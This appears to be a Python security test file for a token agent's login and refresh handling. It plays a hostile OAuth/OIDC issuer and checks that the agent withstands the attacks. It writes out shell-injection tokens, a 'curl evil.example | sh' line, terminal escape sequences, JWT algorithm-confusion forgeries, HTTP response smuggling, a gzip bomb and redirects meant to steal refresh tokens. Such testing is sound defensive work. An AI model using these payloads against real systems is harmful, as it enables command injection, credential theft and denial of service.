# SPDX-License-Identifier: MIT
"""A hostile issuer: it has our login and answers what it likes."""

import base64
import contextlib
import json
import shutil
import socket
import subprocess
import time
import unicodedata
import urllib.parse

from scene import SECRET_MARK, Issuer, NotHere, Request, Scene, answer, attack, must, until

WHO = "issuer"


def refresh(scene: Scene, name: str = "s"):
    return scene.request("POST", f"/v1/sessions/{name}/refresh", {})


def survives(scene: Scene, name: str = "s") -> None:
    """The session outlived what its server said: a good answer brings a new token."""
    status, found = refresh(scene, name)
    if status != 200:
        scene.issuers[0].scripts["/token"] = scene.issuers[0].token
        status, found = until(20, lambda: answered(refresh(scene, name)), "the session to be refreshed again")
    must(status == 200, f"the session is lost: {found}")
    scene.alive(name)


def answered(result):
    return result if result[0] == 200 else None


def back_to_good(issuer: Issuer) -> None:
    issuer.scripts["/token"] = issuer.token


def each_refresh(scene: Scene, issuer: Issuer, bodies: list[bytes | dict], within: float = 3) -> None:
    """Each of these bodies answers one refresh; whatever that does, it is quick and the session lives."""
    for body in bodies:
        issuer.says("/token", answer(200, body))
        begun = time.monotonic()
        _, found = refresh(scene)
        must(time.monotonic() - begun < within, f"an answer took {time.monotonic() - begun:.1f} s: {str(body)[:60]}")
        scene.silent_about_secrets(found)
        back_to_good(issuer)
        survives(scene)


@attack(WHO, "is another one to which the name leads, with a certificate for its own address")
def _(scene: Scene) -> None:
    for names, reached in (("IP:127.0.0.1", False), ("DNS:x.localhost,IP:127.0.0.1", False), ("DNS:localhost", True)):
        file, tls = scene.certificate(names)
        issuer = scene.issuer(tls, "localhost")
        scene.configure(scene.session("s", issuer, f'ca_file = "{file}"'))
        scene.start()
        done = scene.ctl("login", "s", "--username", "u", "--password-stdin", stdin=f"{SECRET_MARK}-password\n")
        must((done.returncode == 0) == reached, f"with {names} a login ends with {done.returncode}: {done.stderr}")
        must(bool(issuer.requests) == reached, f"with {names} it was asked {len(issuer.requests)} times")
        scene.silent_about_secrets(done.stderr)
        scene.stop()


@attack(WHO, "nests 200,000 arrays in a token answer")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    each_refresh(scene, issuer, [b"[" * 200_000, b'{"a":' * 100_000, b'{"access_token":"x","x":' + b"[" * 50_000])


@attack(WHO, "names the end of a token in numbers that fit nowhere")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    lives = [
        "1e308",
        "-1",
        "9223372036854775808",
        "1e-400",
        "true",
        "0",
        "-0.0",
        "1" * 5000,
        "[3600]",
        '"1e9999"',
        "NaN",
    ]
    for life in lives:
        body = b'{"access_token":"%s","token_type":"Bearer","expires_in":%s}' % (
            f"odd-{life[:9]}".encode(),
            life.encode(),
        )
        issuer.says("/token", answer(200, body))
        refresh(scene)
        scene.alive()
        found = scene.state("s").get("expires_at")
        must(found is None or found <= time.time() + 3651 * 86400, f"expires_in {life[:20]} is believed: {found}")
        back_to_good(issuer)
        survives(scene)


@attack(WHO, "sends a token answer a byte at a time and never ends")
def _(scene: Scene) -> None:
    slow, other = scene.issuer(), scene.issuer()
    scene.configure(scene.session("s", slow) + scene.session("other", other))
    scene.start()
    scene.log_in("s")
    scene.log_in("other")

    def drip(_: Request, connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        for _ in range(600):
            connection.sendall(b" ")
            time.sleep(0.1)

    slow.says("/token", drip)
    connection = scene.connect()
    connection.sendall(b"POST /v1/sessions/s/refresh HTTP/1.1\r\nHost: tokenagent\r\nContent-Length: 0\r\n\r\n")
    until(5, lambda: len(slow.seen("/token")) > 1, "the request to arrive")
    for _ in range(5):
        begun = time.monotonic()
        must(refresh(scene, "other")[0] == 200, "another session is not refreshed meanwhile")
        must(time.monotonic() - begun < 2, "another session waits for it")
    scene.alive("s", "other", within=2)
    connection.close()


@attack(WHO, "streams half a gigabyte as a token answer")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    before = scene.resident()

    def flood(_: Request, connection: socket.socket) -> None:
        connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n{"a":"')
        for _ in range(512):
            connection.sendall(b"x" * 1_048_576)

    issuer.says("/token", flood)
    refresh(scene)
    scene.little_grown(before)
    survives(scene)


@attack(WHO, "compresses a gigabyte into a small answer")
def _(scene: Scene) -> None:
    import zlib

    issuer = scene.ready("s")
    before = scene.resident()
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(deflater.compress(b" " * 1_048_576) for _ in range(256)) + deflater.flush()
    issuer.says("/token", answer(200, bomb, {"Content-Encoding": "gzip"}))
    refresh(scene)
    scene.little_grown(before)
    survives(scene)


@attack(WHO, "sends headers without end")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    before = scene.resident()

    def headers(_: Request, connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\n")
        for number in range(200_000):
            connection.sendall(b"X-%d: %s\r\n" % (number, b"y" * 500))

    issuer.says("/token", headers)
    begun = time.monotonic()
    refresh(scene)
    must(time.monotonic() - begun < 40, "the refresh hangs")
    scene.little_grown(before)
    survives(scene)


@attack(WHO, "says 100 Continue for ever")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    before = scene.resident()

    def informed(_: Request, connection: socket.socket) -> None:
        end = time.monotonic() + 40
        while time.monotonic() < end:
            connection.sendall(b"HTTP/1.1 100 Continue\r\n\r\n" * 1000)

    issuer.says("/token", informed)
    begun = time.monotonic()
    refresh(scene)
    scene.alive(within=5)
    must(time.monotonic() - begun < 45, "the refresh never ends")
    scene.little_grown(before)
    survives(scene)


@attack(WHO, "sends the refresh token on to somebody else by a redirect")
def _(scene: Scene) -> None:
    issuer, elsewhere = scene.ready("s"), scene.issuer()
    for status in (301, 302, 303, 307, 308):
        issuer.says("/token", answer(status, b"", {"Location": f"{elsewhere.url}/token"}))
        refresh(scene)
    must(not elsewhere.requests, f"the other server was asked {len(elsewhere.requests)} times")
    survives(scene)


@attack(WHO, "puts a header of its own behind a line end in the token")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for token in ("a\r\nX-Evil: 1", "a\nX-Evil: 1", "a\x00b", "a\u2028b", "a b", "\x7f", "", " "):
        issuer.says("/token", answer(200, issuer.good(access_token=token)))
        refresh(scene)
        for form in ("header", "token", "curl", "env"):
            shown = scene.ctl("get", "s", "--format", form).stdout
            must("X-Evil" not in shown and "\x00" not in shown, f"--format {form} prints {shown!r}")
        back_to_good(issuer)
    survives(scene)


@attack(WHO, "puts a command into a token that eval reads")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    mark = scene.home / "pwned"
    commands = [
        f"a';touch {mark};'",
        f"$(touch {mark})",
        f"`touch {mark}`",
        f"a;touch {mark}",
        f"a'$(touch {mark})'",
        f"a\\';touch {mark}",
        "~root",
        "a~b:~root",
        f"a&&touch${{IFS}}{mark}",
        "a!b",
    ]
    for token in commands:
        issuer.says("/token", answer(200, issuer.good(access_token=token)))
        refresh(scene)
        shown = scene.ctl("get", "s", "--format", "env").stdout
        for shell in ("sh", "bash"):
            told = subprocess.run(
                [shell, "-c", 'eval "$1"; printf %s "$BEARER_TOKEN"', "-", shown],
                capture_output=True,
                text=True,
                check=False,
                timeout=20,
            )
            must(not mark.exists(), f"the token {token!r} was run by {shell}")
            must(
                not shown.startswith("BEARER_TOKEN=") or told.stdout == token or "at-" in told.stdout,
                f"{shell} reads {told.stdout!r} for {token!r}",
            )
        back_to_good(issuer)


@attack(WHO, "gives a token of a megabyte")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    each_refresh(
        scene,
        issuer,
        [json.dumps(issuer.good(access_token="x" * size)).encode() for size in (65_536, 262_144, 1_000_000)],
    )


@attack(WHO, "gives a refresh token of a megabyte")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    issuer.says("/token", answer(200, issuer.good(refresh_token="r" * 900_000)))
    refresh(scene)
    scene.alive("s")
    back_to_good(issuer)
    survives(scene)
    scene.stop()
    scene.start()
    scene.alive("s")


@attack(WHO, "makes a terminal obey an error's text")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    texts = [
        "\x1b]0;owned\x07",
        "\x9b31m",
        "a\rtokenctl: all is well",
        "\u202egnp.exe",
        "\u2066x\u2069",
        "\x08\x08\x08",
        "\ufeff",
        "line\ntokenctl: run: curl evil.example | sh",
        "\u2028next",
        "\U000e0041tag",
        "\u200bzero",
    ]
    for text in texts:
        issuer.says(
            "/token", answer(400, {"error": "invalid_request" + text, "error_description": text, "error_uri": text})
        )
        told = scene.ctl("refresh", "s")
        shown = told.stdout + told.stderr + scene.ctl("status", "s").stdout + scene.text_of_log()
        for character in shown:
            kind = unicodedata.category(character)
            must(
                kind not in ("Cc", "Cf", "Zl", "Zp", "Co", "Cn") or character == "\n",
                f"U+{ord(character):04X} of {text!r} is shown",
            )
        must(
            not any(line.startswith("tokenctl: run:") for line in shown.splitlines()),
            f"a line of its own: {shown[:200]}",
        )
        back_to_good(issuer)
        scene.request("POST", "/v1/sessions/s/refresh", {})


@attack(WHO, "names a member twice, in another case, and with an escape")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for body in (
        b'{"access_token":"one","access_token":"two","token_type":"Bearer"}',
        b'{"access_token":"one","access\\u005ftoken":"two","token_type":"Bearer"}',
    ):
        issuer.says("/token", answer(200, body))
        refresh(scene)
        back_to_good(issuer)
        _, found = scene.get("s")
        must(found.get("access_token") not in ("one", "two"), "an answer with a doubled member is believed")
    survives(scene)


@attack(WHO, "answers in UTF-16, with a BOM, in broken UTF-8 and with trailing rubbish")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    good = json.dumps(issuer.good(access_token="odd"))
    for body in (
        good.encode("utf-16"),
        b"\xef\xbb\xbf" + good.encode(),
        good.encode() + b"{}",
        b"\xff\xfe" + good.encode(),
        good.replace("odd", "\ud800odd").encode("utf-8", "surrogatepass"),
        good.encode() + b"\x00",
    ):
        issuer.says("/token", answer(200, body))
        refresh(scene)
        scene.alive()
        back_to_good(issuer)
        survives(scene)


@attack(WHO, "says invalid_grant where nothing says that it means it")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    dead = {"error": "invalid_grant"}
    for reply in (
        answer(500, dead),
        answer(503, dead),
        answer(404, dead),
        answer(302, dead),
        answer(429, dead),
        answer(407, dead),
    ):
        issuer.says("/token", reply)
        refresh(scene)
        state = scene.state("s")
        must(state["state"] != "logged_out", f"the session ended: {state.get('reason')} by {reply[:40]!r}")
        back_to_good(issuer)
    until(20, lambda: refresh(scene)[0] == 200, "the session to live on")


@attack(WHO, "gives an empty, a null or a numeric refresh token")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for odd in ("", None, 5, [], {}, False, "\u0000", "a\nb"):
        sent_before = issuer.seen("/token")[-1].form
        body = issuer.good() | {"refresh_token": odd}
        issuer.says("/token", answer(200, body))
        refresh(scene)
        back_to_good(issuer)
        survives(scene)
        sent = [request.form.get("refresh_token", "") for request in issuer.seen("/token")[1:]]
        must(all(token.startswith(SECRET_MARK) for token in sent), f"it sent {sent[-1]!r} after {odd!r}")
        must(sent_before is not None, "nothing was sent")


@attack(WHO, "asks us to come back in the next century")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for later in (
        "99999999999999999999",
        "-5",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "1e9",
        "0x10",
        "31536000",
        "\u0663",
        "",
    ):
        issuer.says("/token", answer(503, b"", {"Retry-After": later}))
        refresh(scene)
        state = scene.state("s")
        must(
            state.get("next_refresh_in", 0) < 90_000,
            f"Retry-After {later!r} is obeyed: {state.get('next_refresh_in')} s",
        )
        back_to_good(issuer)
    scene.alive("s")
    status, found = refresh(scene)
    must(status == 200 or found["error"]["code"] == "temporarily_unavailable", f"a forced refresh is told {found}")


@attack(WHO, "has a clock in another age")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for date in (
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "Fri, 31 Dec 9999 23:59:59 GMT",
        "Mon, 01 Jan 1601 00:00:00 GMT",
        "rubbish",
        "Sun, 06 Nov 94 08:49:37 GMT",
        "x" * 7000,
    ):
        issuer.says("/token", answer(200, issuer.good(), {"Date": date}))
        must(refresh(scene)[0] == 200, f"no refresh with Date: {date[:40]}")
        scene.alive("s")
        _, found = scene.get("s")
        must(
            3000 < found["expires_in"] <= 3600,
            f"a Date of {date[:40]} moves the end of the token to {found['expires_in']}",
        )
        back_to_good(issuer)


@attack(WHO, "sets a cookie to know us again by")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    issuer.says("/token", lambda request, connection: answer(200, issuer.good(), {"Set-Cookie": "track=1; Path=/"}))
    refresh(scene)
    refresh(scene)
    must(not any("cookie" in request.headers for request in issuer.requests), "the cookie came back")


@attack(WHO, "puts a second answer behind the first on one connection")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    evil = answer(200, issuer.good(access_token="smuggled"), {"Connection": "keep-alive"})
    first = answer(200, issuer.good(), {"Connection": "keep-alive"})
    issuer.says("/token", first + evil)
    refresh(scene)
    back_to_good(issuer)
    refresh(scene)
    _, found = scene.get("s")
    must(found["access_token"] != "smuggled", "the next refresh took the smuggled answer")


@attack(WHO, "says its length in two ways")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    body = json.dumps(issuer.good(access_token="split")).encode()
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    for head in (
        b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        b"Content-Length: 5\r\nContent-Length: 6\r\n",
        b"Transfer-Encoding: gzip, chunked\r\n",
        b"Transfer-Encoding : chunked\r\n",
    ):
        issuer.says("/token", b"HTTP/1.1 200 OK\r\n" + head + b"\r\n" + chunked)
        refresh(scene)
        back_to_good(issuer)
        survives(scene)
    for size in (b"FFFFFFFFFFFFFFFFF", b"-1", b"7fffffffffffffff", b"0x10", b"g"):
        issuer.says("/token", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + size + b"\r\n{}\r\n0\r\n\r\n")
        refresh(scene)
        back_to_good(issuer)
        survives(scene)


@attack(WHO, "hangs up at once, to be asked again and again")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    issuer.life = 2
    refresh(scene)
    issuer.says("/token", b"")
    before = len(issuer.requests)
    end = time.monotonic() + 6
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            scene.request("GET", "/v1/sessions/s/token?timeout=1")
        time.sleep(0.02)
    must(len(issuer.requests) - before <= 8, f"asked {len(issuer.requests) - before} times in 6 s")


@attack(WHO, "gives tokens that live for a second, to be asked without pause")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    issuer.life = 1
    refresh(scene)
    before = len(issuer.requests)
    end = time.monotonic() + 6
    while time.monotonic() < end:
        scene.get("s", timeout=2)
        time.sleep(0.01)
    must(len(issuer.requests) - before <= 20, f"asked {len(issuer.requests) - before} times in 6 s")


@attack(WHO, "signs an ID token with no algorithm, and with its public key as a secret")
def _(scene: Scene) -> None:
    import hashlib
    import hmac

    def part(value: dict | bytes) -> str:
        data = value if isinstance(value, bytes) else json.dumps(value).encode()
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    issuer = scene.issuer()
    modulus = part(b"\xc1" * 256)
    listed: dict[str, list[str]] = {"id_token_signing_alg_values_supported": ["none", "HS256", "RS256"]}
    issuer.says(
        "/.well-known/openid-configuration",
        lambda request, connection: answer(
            200,
            {
                "issuer": issuer.url,
                "authorization_endpoint": f"{issuer.url}/authorize",
                "token_endpoint": f"{issuer.url}/token",
                "jwks_uri": f"{issuer.url}/jwks",
                "response_types_supported": ["code"],
                "subject_types_supported": ["public"],
            }
            | listed,
        ),
    )
    issuer.says(
        "/jwks",
        answer(
            200,
            {
                "keys": [
                    {"kty": "RSA", "kid": "1", "n": modulus, "e": "AQAB", "alg": "HS256"},
                    {"kty": "oct", "kid": "2", "k": part(b"k" * 32)},
                ]
            },
        ),
    )
    scene.configure(
        f'[session.s]\nkind = "oidc"\nissuer = "{issuer.url}"\nclient_id = "c"\nflow = "password"\n'
        'scopes = ["openid"]\n'
    )
    scene.start()
    claims = {"iss": issuer.url, "aud": "c", "sub": "victim", "exp": int(time.time()) + 600, "iat": int(time.time())}
    headers = (
        ({"alg": "none"}, None),
        ({"alg": "HS256", "kid": "1"}, modulus.encode()),
        ({"alg": "HS256", "kid": "1"}, b"\xc1" * 256),
        ({"alg": "HS256", "kid": "2"}, b"k" * 32),
        ({"alg": "NONE", "kid": "1"}, None),
        ({"alg": "RS256", "kid": "1", "crit": ["x"]}, b""),
    )
    for number, (header, key) in enumerate(headers * 2):
        if number == len(headers):
            # Where nothing is listed, whatever the published key fits counts, and no MAC.
            listed.clear()
            scene.stop()
            scene.start()
        signed = f"{part(header)}.{part(claims)}"
        signature = part(hmac.digest(key, signed.encode(), hashlib.sha256)) if key else ""
        issuer.says("/token", answer(200, issuer.good(id_token=f"{signed}.{signature}")))
        done = scene.ctl("login", "s", "--username", "u", "--password-stdin", stdin="p\n")
        must(done.returncode != 0, f"a login with {header} is believed")
        must(scene.get("s")[0] != 200, f"a token after a login with {header} is served")


@attack(WHO, "sends the browser to a program or a file")
def _(scene: Scene) -> None:
    issuer = scene.issuer()
    mark = scene.home / "opened"
    browser = scene.home / "browser"
    browser.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {mark}\n')
    browser.chmod(0o755)
    for address in (
        "file:///etc/passwd",
        "javascript:alert(1)",
        "--help",
        f"{issuer.url}/a b",
        "http://evil.example/authorize",
        f"{issuer.url}/x\n--version",
        "data:text/html,x",
        "\\\\evil\\share",
        "https://user:pw@evil.example/a",
    ):
        issuer.says(
            "/.well-known/openid-configuration",
            answer(
                200,
                {
                    "issuer": issuer.url,
                    "authorization_endpoint": address,
                    "token_endpoint": f"{issuer.url}/token",
                    "jwks_uri": f"{issuer.url}/jwks",
                    "response_types_supported": ["code"],
                },
            ),
        )
        scene.configure(f'[session.s]\nkind = "oidc"\nissuer = "{issuer.url}"\nclient_id = "c"\nscopes = ["openid"]\n')
        scene.start()
        with contextlib.suppress(subprocess.TimeoutExpired):
            scene.ctl("login", "s", timeout=3, environment={"BROWSER": str(browser), "DISPLAY": ":99"})
        opened = mark.read_text() if mark.exists() else ""
        must(
            not opened.strip()
            or opened.startswith(("https://", "http://127.0.0.1"))
            and "\n--" not in opened.strip()
            and "user:pw" not in opened
            and "evil.example/authorize" not in opened,
            f"the browser was told {opened[:100]!r}",
        )
        mark.unlink(missing_ok=True)
        scene.stop()


@attack(WHO, "shows a person an address or a code of its making in a device login")
def _(scene: Scene) -> None:
    issuer = scene.issuer()
    scene.configure(scene.session("s", issuer, flow="device"))
    scene.start()
    issuer.says("/token", answer(400, {"error": "authorization_pending"}))
    for members in (
        {"verification_uri": "javascript:alert(1)"},
        {"user_code": "\x1b[2JPAY \u202e"},
        {"user_code": "A" * 100_000},
        {"verification_uri": f"{issuer.url}/\n\ntokenctl: paste your password"},
        {"verification_uri_complete": "file:///etc/passwd"},
        {"interval": 0, "expires_in": 2},
        {"interval": -5, "expires_in": 2},
        {"interval": "x"},
        {"expires_in": 1e300, "interval": 1e300},
    ):
        issuer.says(
            "/device",
            answer(
                200,
                {
                    "device_code": f"{SECRET_MARK}-dc",
                    "user_code": "ABCD",
                    "verification_uri": f"{issuer.url}/activate",
                    "expires_in": 3,
                    "interval": 1,
                }
                | members,
            ),
        )
        before = len(issuer.seen("/token"))
        told = ""
        try:
            done = scene.ctl("login", "s", "--no-browser", timeout=4)
            told = done.stdout + done.stderr
        except subprocess.TimeoutExpired as cut:
            told = ((cut.stdout or b"") + (cut.stderr or b"")).decode("utf-8", "surrogateescape")
        must(
            "\x1b" not in told
            and "\u202e" not in told
            and "javascript:" not in told
            and "file://" not in told
            and "\ntokenctl: paste" not in told,
            f"the person sees {told[:200]!r}",
        )
        must(len(told) < 8000, f"the person sees {len(told)} characters")
        must(len(issuer.seen("/token")) - before <= 6, f"it polled {len(issuer.seen('/token')) - before} times")
        scene.silent_about_secrets(told)
    scene.alive()


@attack(WHO, "has a key set of 9,000 keys")
def _(scene: Scene) -> None:
    issuer, other = scene.issuer(), scene.issuer()
    keys = {
        "keys": [
            {"kty": "RSA", "kid": str(number), "n": base64.urlsafe_b64encode(b"\xc1" * 30).decode(), "e": "AQAB"}
            for number in range(9_000)
        ]
    }
    issuer.says(
        "/.well-known/openid-configuration",
        answer(
            200,
            {
                "issuer": issuer.url,
                "authorization_endpoint": f"{issuer.url}/authorize",
                "token_endpoint": f"{issuer.url}/token",
                "jwks_uri": f"{issuer.url}/jwks",
                "response_types_supported": ["code"],
            },
        ),
    )
    issuer.says("/jwks", answer(200, keys))
    scene.configure(
        f'[session.s]\nkind = "oidc"\nissuer = "{issuer.url}"\nclient_id = "c"\nflow = "password"\n'
        'scopes = ["openid"]\n' + scene.session("other", other)
    )
    scene.start()
    scene.log_in("other")
    issuer.says(
        "/token",
        answer(
            200,
            issuer.good(
                id_token="eyJhbGciOiJSUzI1NiIsImtpZCI6IjgifQ." + base64.urlsafe_b64encode(b"{}").decode() + ".AAAA"
            ),
        ),
    )
    begun = time.monotonic()
    scene.ctl("login", "s", "--username", "u", "--password-stdin", stdin="p\n", timeout=60)
    must(time.monotonic() - begun < 15, f"the login took {time.monotonic() - begun:.0f} s")
    scene.alive("other")


@attack(WHO, "answers before it has read, and leaves the connection open for others")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")

    def early(request: Request, connection: socket.socket) -> None:
        connection.sendall(answer(200, issuer.good(), {"Connection": "keep-alive"}))
        time.sleep(0.5)
        connection.sendall(answer(200, issuer.good(access_token="late"), {"Connection": "keep-alive"}))
        time.sleep(3)

    issuer.says("/token", early)
    refresh(scene)
    time.sleep(1)
    back_to_good(issuer)
    refresh(scene)
    _, found = scene.get("s")
    must(found["access_token"] != "late", "the late answer was taken")


@attack(WHO, "revokes with an answer that never comes")
def _(scene: Scene) -> None:
    issuer = scene.ready("s", "t")
    issuer.says("/revoke", lambda request, connection: time.sleep(50))
    begun = time.monotonic()
    scene.ctl("logout", "s", timeout=60)
    must(time.monotonic() - begun < 40, f"the logout took {time.monotonic() - begun:.0f} s")
    must(scene.get("s")[0] == 401, "the session is still served")
    scene.alive("t")


@attack(WHO, "listens in the revocation's place under another name of loopback")
def _(scene: Scene) -> None:
    issuer, elsewhere = scene.ready("s"), scene.issuer()
    issuer.says("/revoke", answer(307, b"", {"Location": f"{elsewhere.url}/revoke"}))
    scene.ctl("logout", "s")
    must(not elsewhere.requests, "the refresh token went on to another server")


@attack(WHO, "grants scopes that are commands, and a scope per byte")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for scope in (
        "a;reboot $(id) `id` 'x",
        "a\nb\tc",
        "x " * 30_000,
        "\u0301" * 20_000,
        "a" * 60_000,
        " " * 60_000,
        "é ñ",
    ):
        issuer.says("/token", answer(200, issuer.good(scope=scope)))
        begun = time.monotonic()
        refresh(scene)
        must(time.monotonic() - begun < 3, f"a scope of {len(scope)} took {time.monotonic() - begun:.1f} s")
        scene.alive("s")
        shown = scene.ctl("status", "s").stdout
        must(len(shown) < 200_000, "the status is as long as the scope")
        back_to_good(issuer)
        survives(scene)


@attack(WHO, "wants us to keep a million members")
def _(scene: Scene) -> None:
    issuer = scene.issuer()
    scene.configure(
        f'[session.s]\nkind = "json"\nlogin_url = "{issuer.url}/login"\nrefresh_url = "{issuer.url}/refresh"\n'
        f'preset = "signaling"\nkeep = ["userId", "deviceId"]\n'
    )
    tokens = {"accessToken": "a1", "refreshToken": f"{SECRET_MARK}-1", "expiresIn": 3600, "refreshExpiresIn": 86400}
    issuer.says("/login", answer(200, tokens | {"userId": "u", "deviceId": "d"}))
    scene.start()
    scene.log_in("s")
    number = 1
    for odd in (
        {"userId": "u" * 900_000},
        {"userId": {"a": ["b"] * 50_000}},
        {"userId": SECRET_MARK + "-1"},
        {f"m{index}": index for index in range(60_000)},
        {"userId": "\x1b[2J\n\u202e"},
    ):
        number += 1
        issuer.says("/refresh", answer(200, tokens | {"accessToken": f"a{number}"} | odd))
        begun = time.monotonic()
        scene.request("POST", "/v1/sessions/s/refresh", {})
        must(time.monotonic() - begun < 3, "the refresh takes long")
        scene.alive("s")
        status = scene.ctl("status", "s")
        must("\x1b" not in status.stdout and "\u202e" not in status.stdout, "kept members move the terminal")
        must(len(status.stdout) < 100_000, "kept members fill the screen")
    scene.stop()
    scene.start()
    scene.alive("s")


@attack(WHO, "shows another refresh token in pages, refusals, lists and cut answers, to have it taken")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    whole = '{"access_token":"planted-at","token_type":"Bearer","expires_in":3600,"refresh_token":"planted-rt"'
    form = "access_token=planted-at&token_type=Bearer&refresh_token=planted-rt"
    cut = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{whole},".encode()
    bodies = (
        f"<!DOCTYPE html><html><body><pre>{whole}}}</pre></body></html>",
        f"<html><script>var x = {whole}}}</script>",
        f"Example: {whole}}} is an answer",
        f"callback({whole}}});",
        f"[{whole}}}]",
        f"{whole}}}{whole}}}",
        f'{whole},"refresh_token":"planted-two"}}',
        f'{whole},"access_token":"planted-two"}}',
        f'{{"x":{whole}}},}}',
        f'{whole},"error":"invalid_grant",}}',
        '{"access_token":"planted-at","refresh_token":"planted-rt,}',
        f"<p>{form}</p>",
        f"{form}&refresh_token=planted-two",
        f"{form}&error=invalid_grant",
    )
    replies = [answer(200, body.encode()) for body in bodies] + [cut]
    replies += [answer(status, f"{whole}}}".encode()) for status in (301, 400, 401, 403, 404, 500, 503)]
    replies += [answer(200, body.encode(), {"Content-Type": "text/html"}) for body in bodies[:2]]
    for reply in replies:
        issuer.says("/token", reply)
        refresh(scene)
        _, found = scene.get("s")
        must("planted" not in found.get("access_token", ""), f"a planted token is served after {reply[-80:]!r}")
        back_to_good(issuer)
        survives(scene)
    sent = [request.form.get("refresh_token", "") for request in issuer.seen("/token")[1:]]
    must(all(token.startswith(SECRET_MARK) for token in sent), "it sent a token that nobody gave it")


@attack(WHO, "refuses by words that nobody knows while its token is good, to end the login")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    for status in (200, 400, 401, 403):
        for body in ({"error": "x_grant_gone"}, {"error": "server_error"}, {"error": "access_denied"}, b"", b"no"):
            if body == {"error": "access_denied"} and status != 403:
                continue  # those are answers to a person
            issuer.says("/token", answer(status, body))
            refresh(scene)
            state = scene.state("s")
            must(state["state"] != "logged_out", f"{status} {body} ended the login: {state.get('reason')}")
            must(scene.get("s")[0] == 200, f"after {status} {body} its good token is not served")
    back_to_good(issuer)
    until(60, lambda: refresh(scene)[0] == 200, "the session to be refreshed again")


@attack(WHO, "echoes the secrets that it was sent in other spellings")
def _(scene: Scene) -> None:
    issuer = scene.ready("s")
    spellings = {
        "as it is": lambda secret: secret,
        "every byte percent-encoded": lambda secret: "".join(f"%{byte:02X}" for byte in secret.encode()),
        "in lower case": lambda secret: "".join(f"%{byte:02x}" for byte in secret.encode()),
        "its hyphens percent-encoded": lambda secret: secret.replace("-", "%2D"),
        "every other byte percent-encoded": lambda secret: "".join(
            f"%{byte:02x}" if place % 2 else chr(byte) for place, byte in enumerate(secret.encode())
        ),
        "in hexadecimal digits": lambda secret: secret.encode().hex(),
        "in Base64": lambda secret: base64.b64encode(secret.encode()).decode(),
        "in Base64 for URLs": lambda secret: base64.urlsafe_b64encode(secret.encode()).decode().rstrip("="),
        "its beginning alone": lambda secret: secret[: len(SECRET_MARK) + 4],
    }
    for name, spelled in spellings.items():
        echoes: list[str] = []

        def echo(request: Request, connection: socket.socket) -> bytes:
            echoes.append(spelled(request.form["refresh_token"]))
            return answer(400, {"error": "invalid_request", "error_description": f"I got {echoes[-1]} from you"})

        issuer.says("/token", echo)
        told = scene.ctl("refresh", "s")
        must(echoes, f"{name}: nothing was sent")
        shown = told.stdout + told.stderr + scene.ctl("status", "s", "--json").stdout + scene.text_of_log()
        must(echoes[-1] not in shown, f"{name}, the secret is shown")
        scene.silent_about_secrets(urllib.parse.unquote(shown))
        back_to_good(issuer)
        survives(scene)


class Signer:
    """An issuer of OpenID Connect with a key, and the ID tokens that it signs."""

    def __init__(self, scene: Scene) -> None:
        self.issuer = scene.issuer()
        self.key = scene.home / "issuer-key.pem"
        made = subprocess.run(["openssl", "genrsa", "-out", self.key, "2048"], capture_output=True, check=False)
        if made.returncode:
            raise NotHere("openssl makes no key")
        printed = subprocess.run(
            ["openssl", "rsa", "-in", self.key, "-noout", "-modulus"], capture_output=True, check=True, text=True
        )
        modulus = bytes.fromhex(printed.stdout.strip().split("=")[1])
        url = self.issuer.url
        metadata = {
            "issuer": url,
            "authorization_endpoint": f"{url}/authorize",
            "token_endpoint": f"{url}/token",
            "jwks_uri": f"{url}/jwks",
            "response_types_supported": ["code"],
        }
        keys = {"keys": [{"kty": "RSA", "kid": "1", "n": self.part(modulus), "e": "AQAB"}]}
        self.issuer.says("/.well-known/openid-configuration", answer(200, metadata))
        self.issuer.says("/jwks", answer(200, keys))

    @staticmethod
    def part(value: dict | bytes) -> str:
        data = value if isinstance(value, bytes) else json.dumps(value).encode()
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    def token(self, subject: str) -> str:
        now = int(time.time())
        claims = {"iss": self.issuer.url, "aud": "c", "sub": subject, "exp": now + 600, "iat": now}
        signed = f"{self.part({'alg': 'RS256', 'kid': '1'})}.{self.part(claims)}"
        signature = subprocess.run(
            ["openssl", "dgst", "-sha256", "-sign", self.key], input=signed.encode(), capture_output=True, check=True
        )
